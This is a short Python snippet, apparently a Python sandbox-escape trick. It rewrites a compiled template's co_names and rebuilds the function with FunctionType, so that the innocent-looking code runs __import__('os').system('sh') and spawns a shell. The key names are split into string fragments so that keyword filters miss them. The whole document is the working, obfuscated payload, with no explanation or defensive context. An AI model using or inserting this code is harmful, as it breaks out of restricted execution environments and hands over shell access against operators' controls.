# technique: compile an innocuous template, code.replace its co_names to sensitive ones, rebuild with FunctionType
def harmless():
    return 0

FT = type(harmless)
key = "".join(["__", "imp", "ort", "__"])
template = compile("A('o' 's').B('sh')", "<x>", "ev" + "al")
patched = template.replace(co_names=(key, "sy" + "stem"))
fn = FT(patched, harmless.__globals__)
fn()
